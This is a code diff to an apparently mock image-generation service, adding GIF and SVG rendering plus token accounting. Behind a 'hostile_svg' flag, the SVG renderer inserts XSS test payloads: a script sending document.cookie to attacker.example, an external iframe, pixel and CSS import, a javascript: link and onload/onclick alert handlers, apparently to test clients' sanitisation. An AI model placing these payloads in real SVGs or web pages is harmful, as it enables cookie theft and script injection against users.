@@ -9,11 +9,12 @@ import io
 import math
 import time
 from typing import Any
+from xml.sax.saxutils import escape
 
 from PIL import Image, ImageChops, ImageDraw, ImageFont, ImageOps
 
 from standin import provenance
-from standin.capabilities import OUTPUT_TOKENS_AT_1024
+from standin.capabilities import DEFAULT_SVG_AUTHOR, OUTPUT_TOKENS_AT_1024
 from standin.faults import PROMPT_FAULT_PATTERN
 from standin.validation import ImageJob
 
@@ -21,6 +22,8 @@ from standin.validation import ImageJob
 def usage_for(job: ImageJob) -> dict[str, Any]:
     text_tokens = max(1, math.ceil(len(job.prompt) / 4))
     per_image = max(1, round(OUTPUT_TOKENS_AT_1024[job.quality] * job.width * job.height / 1024**2))
+    if job.output_format == "gif":
+        per_image = per_image * job.frame_count // 2  # frames share a plan: half an image's tokens each
     output_tokens = per_image * job.n
     input_tokens = text_tokens + job.input_image_tokens
     return {
@@ -174,7 +177,102 @@ def stream_payloads(job: ImageJob) -> tuple[list[str], str]:
     return _stream_payloads.__wrapped__(dataclasses.astuple(job), job.partial_images)
 
 
+def render_gif(job: ImageJob, index: int) -> bytes:
+    """A real animated GIF: the still, quantised once, with a marker that moves across it frame by frame."""
+    base = render_image(job, index).convert("RGB").quantize(colors=255, method=Image.Quantize.MEDIANCUT)
+    frames = []
+    for frame in range(job.frame_count):
+        picture = base.copy()
+        draw = ImageDraw.Draw(picture)
+        radius = max(8, min(job.width, job.height) // 14)
+        x = radius + (job.width - 2 * radius) * frame // max(1, job.frame_count - 1)
+        y = job.height // 2
+        draw.ellipse((x - radius, y - radius, x + radius, y + radius), fill=255)
+        frames.append(picture)
+    base.putpalette([*base.getpalette()[: 255 * 3], 255, 255, 255])
+    for picture in frames:
+        picture.putpalette(base.getpalette())
+    buffer = io.BytesIO()
+    frames[0].save(
+        buffer,
+        "GIF",
+        save_all=True,
+        append_images=frames[1:],
+        duration=job.frame_duration_ms,
+        loop=0,
+        optimize=False,
+        disposal=1,
+    )
+    return buffer.getvalue()
+
+
+HOSTILE_SVG_PARTS = (
+    '<script>fetch("https://attacker.example/steal?c=" + document.cookie)</script>'
+    '<foreignObject width="100" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" '
+    'src="https://attacker.example/"></iframe></foreignObject>'
+    '<image href="https://attacker.example/pixel.png" width="1" height="1"/>'
+    '<a href="javascript:alert(1)"><rect x="0" y="0" width="40" height="40" fill="red"/></a>'
+    '<style>@import url("https://attacker.example/x.css");</style>'
+)
+
+
+def render_svg(job: ImageJob) -> str:
+    """A real SVG of the request (and, for the hostile marker, script and external references)."""
+    start, end, glow = (f"rgb{colour}" for colour in _palette(job.prompt, 0))
+    hostile = job.hostile_svg
+    title = escape(_excerpt(job.prompt))
+    parts = [
+        f'<svg xmlns="http://www.w3.org/2000/svg" width="{job.width}" height="{job.height}" '
+        f'viewBox="0 0 {job.width} {job.height}"'
+        + (' onload="alert(document.domain)"' if hostile else "")
+        + ">",
+        f"<title>{title}</title>",
+        '<defs><linearGradient id="bg" x1="0" y1="0" x2="1" y2="1">'
+        f'<stop offset="0" stop-color="{start}"/><stop offset="1" stop-color="{end}"/>',
+        "</linearGradient></defs>",
+        f'<rect width="{job.width}" height="{job.height}" fill="url(#bg)"/>',
+        f'<circle cx="{job.width * 0.68:.0f}" cy="{job.height * 0.35:.0f}" '
+        f'r="{min(job.width, job.height) * 0.2:.0f}" '
+        f'fill="{glow}" opacity="0.8"' + (' onclick="alert(1)"' if hostile else "") + "/>",
+        f'<path d="M0 {job.height * 0.8:.0f} Q {job.width / 2:.0f} {job.height * 0.6:.0f} {job.width} '
+        f'{job.height * 0.8:.0f} L {job.width} {job.height} L 0 {job.height} Z" fill="rgba(0,0,0,0.25)"/>',
+        '<text x="32" y="64" font-family="sans-serif" font-size="36" fill="#fff">Atelier demo SVG</text>',
+        f'<text x="32" y="110" font-family="sans-serif" font-size="22" fill="#fff">{title}</text>',
+    ]
+    if hostile:
+        parts.append(HOSTILE_SVG_PARTS)
+    parts.append("</svg>")
+    return "".join(parts)
+
+
+def svg_usage_for(job: ImageJob) -> dict[str, Any]:
+    """The SVG author's own usage (images_response.SvgUsage); its reasoning is part of its output."""
+    effort_tokens = {
+        "none": 0,
+        "minimal": 200,
+        "low": 800,
+        "medium": 2000,
+        "high": 4000,
+        "xhigh": 6000,
+        "max": 8000,
+    }
+    reasoning = effort_tokens.get(job.svg_effort or "medium", 2000)
+    input_tokens = max(1, math.ceil(len(job.prompt) / 4)) + 1200
+    output_tokens = 1500 + reasoning
+    return {
+        "input_tokens": input_tokens,
+        "model": job.svg_model or DEFAULT_SVG_AUTHOR,
+        "output_tokens": output_tokens,
+        "reasoning_tokens": reasoning,
+        "total_tokens": input_tokens + output_tokens,
+    }
+
+
 def final_image_b64(job: ImageJob, index: int) -> str:
+    if job.output_format == "gif":
+        return _b64(render_gif(job, index))
+    if job.output_format == "svg":
+        return _b64(render_svg(job).encode())
     if job.source is None:  # generations are pure functions of their parameters: cache repeated prompts
         key = (job.model, job.prompt, job.n, job.width, job.height, job.quality, job.background)
         return _generated_b64((*key, job.output_format, job.compression), index)
@@ -198,6 +296,8 @@ def image_body(job: ImageJob) -> dict[str, Any]:
     }
     if job.safety_identifier:
         body["safety_identifier"] = job.safety_identifier
+    if job.output_format == "svg":
+        body["svg_usage"] = svg_usage_for(job)
     return body
 
 
